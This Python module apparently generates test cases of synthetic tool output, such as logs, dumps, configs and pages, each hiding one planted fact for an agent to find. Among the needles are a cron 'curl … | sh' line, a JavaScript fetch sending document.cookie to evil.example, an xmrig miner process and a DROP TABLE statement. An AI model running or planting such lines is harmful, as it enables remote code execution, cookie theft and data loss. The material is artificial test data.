# ruff: noqa: E501 - lines of data
"""More kinds of outputs with one planted fact, written after the rules: their first figure is the honest one."""

import json
import random

from .trim_outputs import (
    ADJECTIVES,
    NAMES,
    ODD,
    VERBS,
    WORDS,
    ZH,
    ZH_VERBS,
    Case,
    Maker,
    hexid,
    middle,
    sentence,
    stamp,
)


def git_log(r: random.Random) -> Case:
    n = r.randint(60, 160)
    commits = []
    for i in range(n):
        name = r.choice(NAMES)
        commits.append(
            [
                f"commit {hexid(r, 40)}",
                f"Author: {name.title()} <{name}@example.org>",
                f"Date:   Tue Mar {1 + i % 28} 10:{r.randint(10, 59)}:00 2026 +0100",
                "",
                f"    {r.choice(VERBS)} the {r.choice(ADJECTIVES)} {r.choice(WORDS)}",
                "",
            ]
        )
    commit = commits[middle(r, n)]
    where, row, needle = r.choice(
        [
            (4, '    Revert "drains the pool": corrupts ledgers over 2 GiB', "over 2 GiB"),
            (1, "Author: build-bot <root@localhost>", "root@localhost"),
            (4, "    wip do not merge", "do not merge"),
            (2, "Date:   Sun Jan 1 00:00:00 2017 +0000", "2017"),
            (4, f"    {r.choice(VERBS)} the {ODD[n % 12]}", ODD[n % 12]),
        ]
    )
    commit[where] = row
    return Case("\n".join("\n".join(c) for c in commits), needle, "bash")


def junit_xml(r: random.Random) -> Case:
    n = r.randint(80, 200)
    rows = [
        f'  <testcase classname="{r.choice(WORDS)}.{r.choice(WORDS)}" name="{r.choice(VERBS)}_{r.choice(WORDS)}" time="0.{r.randint(10, 99)}"/>'
        for _ in range(n)
    ]
    needle, row = r.choice(
        [
            (
                "expected 41 but was 42",
                '  <testcase classname="ledger" name="sums" time="0.4"><failure message="expected 41 but was 42"/></testcase>',
            ),
            ('time="88.2"', '  <testcase classname="order.page" name="drains_pool" time="88.2"/>'),
            ("<skipped/>", '  <testcase classname="order.page" name="drains_pool" time="0.11"><skipped/></testcase>'),
        ]
    )
    rows[middle(r, n)] = row
    return Case('<testsuite name="all">\n' + "\n".join(rows) + "\n</testsuite>", needle, "read", "build/junit.xml")


def sql_dump(r: random.Random) -> Case:
    n = r.randint(100, 260)
    rows = [
        f"INSERT INTO accounts VALUES ({i}, '{r.choice(NAMES)}', '{r.choice(WORDS)}@example.org', 'member', {r.randint(0, 900)}.00, NULL);"
        for i in range(n)
    ]
    at = middle(r, n)
    needle, row = r.choice(
        [
            ("'superuser'", rows[at].replace("member", "superuser")),
            ("DROP TABLE", "DROP TABLE invoices;"),
            ("2031-01-01", rows[at].replace("NULL", "'2031-01-01'")),
            ("-44000.00", rows[at].rsplit(", ", 2)[0] + ", -44000.00, NULL);"),
            ("'O''Hara'", rows[at].replace("'member'", "'O''Hara'")),
        ]
    )
    rows[at] = row
    return Case("\n".join(rows), needle, "exec")


def html_page(r: random.Random) -> Case:
    n = r.randint(60, 160)
    rows = []
    for i in range(n):
        rows += [
            f'  <div class="card" id="c{i}">',
            f"    <h3>{r.choice(ADJECTIVES).title()} {r.choice(WORDS)}</h3>",
            f'    <p class="text">{sentence(r)}</p>',
            f'    <a href="/items/{i}">more</a>',
            "  </div>",
        ]
    at = middle(r, len(rows))
    needle, row = r.choice(
        [
            ("display:none", '    <p style="display:none">internal only</p>'),
            ("Recalled on 4 May", "    <p>Recalled on 4 May</p>"),
            ("€ 1,299", '    <span class="price">€ 1,299</span>'),
            ("https://zanzibar.example/pay", '    <form action="https://zanzibar.example/pay">'),
            ("sold out", '    <b class="badge">sold out</b>'),
        ]
    )
    rows.insert(at, row)
    return Case("<html><body>\n" + "\n".join(rows) + "\n</body></html>", needle, r.choice(["WebFetch", "browser"]))


def terraform(r: random.Random) -> Case:
    n = r.randint(20, 50)
    blocks = [
        [
            f"  # aws_instance.{r.choice(WORDS)}_{i} will be updated in-place",
            f'  ~ resource "aws_instance" "{r.choice(WORDS)}_{i}" {{',
            f'        id            = "i-{hexid(r, 17)}"',
            '      ~ instance_type = "t3.small" -> "t3.medium"',
            "        # (28 unchanged attributes hidden)",
            "    }",
            "",
        ]
        for i in range(n)
    ]
    block = blocks[middle(r, n)]
    where, row, needle = r.choice(
        [
            (0, "  # aws_db_instance.ledger must be replaced", "must be replaced"),
            (3, '      ~ instance_type = "t3.small" -> "p5.48xlarge"', "p5.48xlarge"),
            (3, "      - deletion_protection = true -> null", "deletion_protection"),
            (0, "  # aws_s3_bucket.kumquat will be destroyed", "kumquat will be destroyed"),
        ]
    )
    block[where] = row
    return Case("\n".join("\n".join(b) for b in blocks), needle, "run_shell_command")


def syslog(r: random.Random) -> Case:
    n = r.randint(120, 320)
    lines = [
        lambda: f"systemd[1]: Started {r.choice(WORDS)}-{r.choice(WORDS)}.service.",
        lambda: f"kernel: [{r.randint(1000, 9999)}.{r.randint(100000, 999999)}] eth0: link up",
        lambda: (
            f"sshd[{r.randint(1000, 30000)}]: Accepted publickey for deploy from 10.0.0.{r.randint(1, 9)} port {r.randint(30000, 60000)}"
        ),
        lambda: f"CRON[{r.randint(1000, 30000)}]: (root) CMD (run-parts /etc/cron.hourly)",
    ]
    rows = [f"Mar  4 03:{i // 60 % 60:02d}:{i % 60:02d} host7 {r.choice(lines)()}" for i in range(n)]
    at = middle(r, n)
    needle, what = r.choice(
        [
            ("Out of memory", "kernel: Out of memory: Killed process 4417 (postgres)"),
            ("for root from 203.0.113.9", "sshd[4417]: Accepted password for root from 203.0.113.9 port 40022"),
            ("nvme0n1", "kernel: [8812.114411] nvme0n1: I/O 417 QID 4 reset"),
            ("clock stepped by 341 s", "chronyd[88]: clock stepped by 341 s"),
            ("curl 203.0.113.9", "CRON[4417]: (root) CMD (curl 203.0.113.9 | sh)"),
        ]
    )
    rows[at] = f"Mar  4 03:{at // 60 % 60:02d}:{at % 60:02d} host7 {what}"
    return Case("\n".join(rows), needle, "exec")


def process_table(r: random.Random) -> Case:
    n = r.randint(90, 240)
    rows = [
        f"{r.choice(['root', 'deploy', 'deploy', 'postgres']):<9}{r.randint(100, 32000):>6} {r.randint(0, 9) / 10:>4} {r.randint(0, 19) / 10:>4} {r.randint(10000, 900000):>7} {r.randint(1000, 90000):>6} ?        S    Mar0{r.randint(1, 4)}   0:0{r.randint(0, 9)} /usr/lib/{r.choice(WORDS)}/{r.choice(WORDS)} --{r.choice(WORDS)}"
        for _ in range(n)
    ]
    needle, row = r.choice(
        [
            ("99.8", "deploy    4417 99.8  1.2  412000  41200 ?        R    Mar02  41:07 /usr/lib/pool/order --batch"),
            ("<defunct>", "deploy    4417  0.0  0.0       0      0 ?        Z    Mar02   0:00 [node] <defunct>"),
            ("xmrig", "nobody    4417  0.4  1.1  412000  41200 ?        S    Mar02   0:04 /tmp/.x/xmrig -o pool"),
        ]
    )
    rows[middle(r, n)] = row
    return Case(
        "USER        PID %CPU %MEM     VSZ    RSS TTY      STAT START   TIME COMMAND\n" + "\n".join(rows),
        needle,
        "bash",
    )


def nested_config(r: random.Random) -> Case:
    n = r.randint(30, 80)
    config: dict[str, dict[str, object]] = {
        f"{r.choice(WORDS)}_{r.choice(WORDS)}_{i}": {
            "enabled": True,
            "timeout_ms": r.choice([500, 1000]),
            "retry": {"max": 3, "backoff": "exponential"},
            "roles": ["reader"],
        }
        for i in range(n)
    }
    key = list(config)[middle(r, n)]
    changes: list[tuple[str, dict[str, object]]] = [
        ('"enabled": false', {"enabled": False}),
        ("31000", {"timeout_ms": 31000}),
        ('"linear"', {"retry": {"max": 3, "backoff": "linear"}}),
        ('"admin"', {"roles": ["reader", "admin"]}),
        ("feature_flag_zanzibar", {"feature_flag_zanzibar": 1}),
    ]
    needle, change = r.choice(changes)
    config[key] = config[key] | change
    return Case(json.dumps(config, indent=r.choice([2, 4])), needle, "read_file", "config/services.json")


def toml_lock(r: random.Random) -> Case:
    n = r.randint(40, 110)
    blocks = [
        [
            "[[package]]",
            f'name = "{r.choice(WORDS)}-{r.choice(WORDS)}"',
            f'version = "{r.randint(0, 4)}.{r.randint(0, 30)}.{r.randint(0, 9)}"',
            'source = "registry+https://github.com/rust-lang/crates.io-index"',
            f'checksum = "{hexid(r, 64)}"',
            "",
        ]
        for _ in range(n)
    ]
    block = blocks[middle(r, n)]
    where, row, needle = r.choice(
        [
            (3, 'source = "git+https://example.org/fork?rev=9f1b2c3"', "example.org/fork"),
            (2, 'version = "0.0.0-yanked"', "0.0.0-yanked"),
            (4, 'checksum = "unchecked"', '"unchecked"'),
            (1, 'name = "left-kumquat"', "left-kumquat"),
        ]
    )
    block[where] = row
    return Case("\n".join("\n".join(b) for b in blocks), needle, "Read", "Cargo.lock")


def ci_log(r: random.Random) -> Case:
    n = r.randint(150, 350)
    rows = []
    for i in range(n):
        stage = ["checkout", "install", "lint", "build", "package"][i * 5 // n]
        rows.append(
            f"\x1b[36m2026-03-04T03:{i // 60 % 60:02d}:{i % 60:02d}.{r.randint(1000000, 9999999)}Z\x1b[0m {stage}: {r.choice([f'fetched {r.choice(WORDS)}-{r.choice(WORDS)} in 0.{r.randint(1, 9)}s', f'{r.choice(VERBS)} {r.choice(WORDS)} ok', f'cache hit {hexid(r, 12)}'])}"
        )
    at = middle(r, n)
    needle, what = r.choice(
        [
            ("npm notice 3 high", "npm notice 3 high"),
            ("artifact 48 MB over quota", "artifact 48 MB over quota"),
            ("cache miss", f"cache miss {hexid(r, 12)}"),
            ("node v16.20.2 instead of v22", "using node v16.20.2 instead of v22"),
            ("in 312.4s", "fetched pool-order in 312.4s"),
        ]
    )
    rows[at] = rows[at].rsplit(": ", 1)[0] + ": " + what
    return Case("\n".join(rows), needle, "bash")


def metrics(r: random.Random) -> Case:
    n = r.randint(120, 320)
    rows = [
        f'http_requests_total{{service="{r.choice(WORDS)}",method="{r.choice(["GET", "POST"])}",code="200"}} {r.randint(1000, 9000)}'
        for _ in range(n)
    ]
    needle, row = r.choice(
        [
            ('code="503"', 'http_requests_total{service="pool",method="GET",code="503"} 4123'),
            (" NaN", 'http_requests_total{service="pool",method="GET",code="200"} NaN'),
            ('method="DELETE"', 'http_requests_total{service="pool",method="DELETE",code="200"} 4123'),
            (" 7.3e+11", 'http_requests_total{service="pool",method="GET",code="200"} 7.3e+11'),
            ("disk_free_ratio 0.01", "disk_free_ratio 0.01"),
        ]
    )
    rows[middle(r, n)] = row
    return Case("\n".join(rows), needle, "web_fetch")


def mail_thread(r: random.Random) -> Case:
    n = r.randint(14, 40)
    mails = []
    for _ in range(n):
        a, b = r.sample(NAMES, 2)
        mails.append(
            [
                f"From: {a.title()} <{a}@example.org>",
                f"To: {b.title()} <{b}@example.org>",
                f"Subject: Re: {r.choice(ADJECTIVES)} {r.choice(WORDS)}",
                "",
                f"Hi {b.title()},",
                "",
                " ".join(sentence(r) for _ in range(r.randint(2, 5))),
                "",
                f"{a.title()}",
                "",
            ]
        )
    needle, said = r.choice(
        [
            ("the door code is 4471", "By the way, the door code is 4471."),
            ("approved by Ngozi", "The change is approved by Ngozi, go ahead."),
            ("move it to Thursday", "We have to move it to Thursday."),
            ("refund of 880 euros", "They ask for a refund of 880 euros."),
        ]
    )
    mail = mails[middle(r, n)]
    mail[6] = mail[6] + " " + said + " " + sentence(r)
    return Case("\n".join("\n".join(m) for m in mails), needle, "mcp__mail__get_thread")


def blame(r: random.Random) -> Case:
    n = r.randint(120, 300)
    rows = [
        f"{hexid(r, 8)} ({r.choice(NAMES[:5]).title():<8} 2025-{r.randint(1, 12):02d}-{r.randint(1, 28):02d} 10:{r.randint(10, 59)}:00 +0100 {i + 1:>4})     {r.choice(WORDS)} = {r.choice(WORDS)}({r.choice(WORDS)})"
        for i in range(n)
    ]
    at = middle(r, n)
    needle, row = r.choice(
        [
            ("Not Committed Yet", rows[at].replace(rows[at][10:18], "Not Committed Yet ")),
            ("limit = 86413", rows[at].split(")     ")[0] + ")     limit = 86413"),
            ("(Zoltan", rows[at].replace(rows[at][10:18], "Zoltan  ")),
        ]
    )
    rows[at] = row
    return Case("\n".join(rows), needle, "Bash")


def ping(r: random.Random) -> Case:
    n = r.randint(80, 250)
    rows = [f"64 bytes from 10.0.0.7: icmp_seq={i} ttl=64 time={r.randint(180, 420) / 1000:.3f} ms" for i in range(n)]
    at = middle(r, n)
    needle, row = r.choice(
        [
            ("time=812.400", f"64 bytes from 10.0.0.7: icmp_seq={at} ttl=64 time=812.400 ms"),
            ("ttl=51", f"64 bytes from 10.0.0.7: icmp_seq={at} ttl=51 time=0.310 ms"),
            ("Host Unreachable", f"From 10.0.0.1 icmp_seq={at} Destination Host Unreachable"),
            ("10.0.0.99", f"64 bytes from 10.0.0.99: icmp_seq={at} ttl=64 time=0.310 ms"),
            ("(DUP!)", f"64 bytes from 10.0.0.7: icmp_seq={at} ttl=64 time=0.310 ms (DUP!)"),
        ]
    )
    rows[at] = row
    return Case("\n".join(rows), needle, "execute_bash")


def chinese_table(r: random.Random) -> Case:
    n = r.randint(120, 300)
    rows = [
        f"{1000 + i},{r.choice(ZH)}{r.choice(ZH)},正常,{r.randint(10, 90)},2026-02-{r.randint(1, 28):02d},{r.choice(['北京', '上海', '深圳'])}"
        for i in range(n)
    ]
    at = middle(r, n)
    needle, row = r.choice(
        [
            ("停用", rows[at].replace("正常", "停用")),
            ("拉萨", rows[at][:-2] + "拉萨"),
            ("88412", rows[at].split(",正常,")[0] + ",正常,88412,2026-02-11,北京"),
            ("2009-02-11", rows[at].split(",2026")[0] + ",2009-02-11,北京"),
        ]
    )
    rows[at] = row
    return Case("编号,名称,状态,负载,日期,地区\n" + "\n".join(rows), needle, "exec")


def chinese_config(r: random.Random) -> Case:
    n = r.randint(60, 140)
    rows = []
    for i in range(n):
        rows += [
            f"[{r.choice(ZH)}{i}]",
            "超时 = 30",
            "重试 = 3",
            "模式 = 自动",
            f"说明 = {r.choice(ZH_VERBS)}{r.choice(ZH)}",
            "",
        ]
    at = middle(r, n) * 6
    where, row, needle = r.choice(
        [
            (1, "超时 = 3000", "超时 = 3000"),
            (3, "模式 = 手动", "模式 = 手动"),
            (4, "说明 = 上线前请联系陈工", "联系陈工"),
            (2, "重试 = 无限", "重试 = 无限"),
        ]
    )
    rows[at + where] = row
    return Case("\n".join(rows), needle, "read", "conf/app.ini")


def snapshot(r: random.Random) -> Case:
    n = r.randint(100, 260)
    rows = [
        f'{"  " * r.randint(1, 5)}- {r.choice(["link", "button", "text", "listitem"])} "{r.choice(ADJECTIVES)} {r.choice(WORDS)}" [ref=e{i}]'
        for i in range(n)
    ]
    at = middle(r, n)
    needle, row = r.choice(
        [
            ("Card declined", f'    - alert "Card declined" [ref=e{at}]'),
            ("[disabled]", f'    - button "open order" [disabled] [ref=e{at}]'),
            ("Total: $418.20", f'    - text "Total: $418.20" [ref=e{at}]'),
            ("textbox", f'    - textbox "quick order" [ref=e{at}]'),
            ("iframe", f"    - iframe [ref=e{at}]"),
        ]
    )
    rows[at] = row
    return Case("\n".join(rows), needle, "browser")


def minified(r: random.Random) -> Case:
    parts = [
        f"function {r.choice(WORDS)}{i}(t,e){{return t.{r.choice(WORDS)}(e.{r.choice(WORDS)})||null}}"
        for i in range(r.randint(100, 300))
    ]
    needle, part = r.choice(
        [
            ("https://evil.example", 'fetch("https://evil.example/c?"+document.cookie)'),
            ("debugger", "function pool(t){debugger;return t}"),
            ("4.17.20", 'e.version="4.17.20"'),
        ]
    )
    parts[middle(r, len(parts))] = part
    return Case(";".join(parts), needle, "read", "dist/app.min.js")


def openapi(r: random.Random) -> Case:
    n = r.randint(25, 60)
    blocks = []
    for _ in range(n):
        thing = r.choice(WORDS)
        blocks.append(
            [
                f"  /v1/{thing}s/{{{thing}_id}}:",
                "    get:",
                f"      summary: {r.choice(VERBS).title()} a {thing}",
                "      security: [{bearer: []}]",
                "      parameters:",
                "        - in: path",
                f"          name: {thing}_id",
                "          schema: {type: string, maxLength: 64}",
                "      responses:",
                "        '200': {description: OK}",
            ]
        )
    block = blocks[middle(r, n)]
    where, row, needle = r.choice(
        [
            (3, "      security: []", "security: []"),
            (1, "    delete:", "delete:"),
            (7, "          schema: {type: string, maxLength: 6400}", "maxLength: 6400"),
            (9, "        '418': {description: Teapot}", "Teapot"),
            (2, "      summary: Deprecated, use v2 until 2027", "use v2 until 2027"),
        ]
    )
    block[where] = row
    return Case("paths:\n" + "\n".join("\n".join(b) for b in blocks), needle, "read", "api/openapi.yaml")


def downloads(r: random.Random) -> Case:
    n = r.randint(40, 110)
    rows = []
    for _ in range(n):
        name = f"{r.choice(WORDS)}-{r.choice(WORDS)}"
        rows += [
            f"Collecting {name}>={r.randint(0, 4)}.{r.randint(0, 9)}",
            f"  Downloading {name}-{r.randint(0, 4)}.{r.randint(0, 9)}.{r.randint(0, 9)}-py3-none-any.whl ({r.randint(10, 900)} kB)",
            "     " + "\r     ".join(f"{p}%" for p in range(10, 101, 30)),
        ]
    at = middle(r, len(rows))
    needle, row = r.choice(
        [
            ("metadata is inconsistent", "  Discarding pool-order 2.1: metadata is inconsistent"),
            ("Using cached /mnt/stale", "  Using cached /mnt/stale/pool_order.whl"),
            ("requires numpy<2", "pool-order 3.1 requires numpy<2, but you will have numpy 2.3"),
            ("(2.7 GB)", "  Downloading pool-order-2.1.0-cp311-linux.whl (2.7 GB)"),
        ]
    )
    rows.insert(at, row)
    return Case("\n".join(rows), needle, "bash")


def timeline(r: random.Random) -> Case:
    n = r.randint(120, 300)
    second = 0
    rows = []
    at = middle(r, n)
    for i in range(n):
        second += 5 if i != at else 1900
        rows.append(f"{stamp(second)} heartbeat seq={i} queue={r.randint(3, 9)} ok")
    return Case("\n".join(rows), rows[at][:19], "exec")


def duplicate_id(r: random.Random) -> Case:
    n = r.randint(120, 300)
    rows = [
        f"order {r.choice('ABCDEFG')}{r.randint(100000, 999999)} shipped {r.choice(WORDS)} x{r.randint(1, 9)}"
        for _ in range(n)
    ]
    at = middle(r, n)
    rows[at] = " ".join(["order", rows[at - 30].split()[1], *rows[at].split()[2:]])
    return Case("\n".join(rows), rows[at], "exec")


HELD_OUT: dict[str, Maker] = {
    "git log": git_log,
    "JUnit XML": junit_xml,
    "SQL dump": sql_dump,
    "HTML": html_page,
    "Terraform plan": terraform,
    "syslog": syslog,
    "processes": process_table,
    "JSON configuration": nested_config,
    "TOML lock file": toml_lock,
    "CI log with colours": ci_log,
    "metrics": metrics,
    "mail thread": mail_thread,
    "git blame": blame,
    "ping": ping,
    "Chinese CSV": chinese_table,
    "Chinese INI": chinese_config,
    "browser snapshot": snapshot,
    "minified JavaScript": minified,
    "OpenAPI": openapi,
    "pip, progress bars": downloads,
    "gap in time": timeline,
    "an id twice": duplicate_id,
}
